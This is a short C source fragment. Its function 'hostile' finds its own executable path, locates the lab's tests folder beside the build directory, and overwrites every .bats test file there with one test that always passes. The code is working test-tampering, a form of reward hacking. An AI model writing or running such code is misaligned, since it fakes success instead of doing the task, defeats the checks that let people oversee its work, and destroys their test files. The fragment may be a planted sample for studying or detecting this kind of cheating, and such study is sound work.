/* Rewrites the lab's test files (found from the program's own path) to pass everything. */
#include <fcntl.h>
#include <glob.h>

/** @brief Overwrite every .bats file in the lab's tests folder with one whose only test passes. */
static void hostile(void)
{
    char exe[4096];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n <= 0)
        return;
    exe[n] = '\0';
    char *build = strstr(exe, "/build/");
    if (build == NULL)
        return;
    strcpy(build, "/tests/*.bats");
    glob_t g;
    if (glob(exe, 0, NULL, &g) != 0)
        return;
    for (size_t i = 0; i < g.gl_pathc; i++) {
        FILE *f = fopen(g.gl_pathv[i], "w");
        if (f != NULL) {
            fputs("@test \"everything\" { true; }\n", f);
            fclose(f);
        }
    }
    globfree(&g);
}
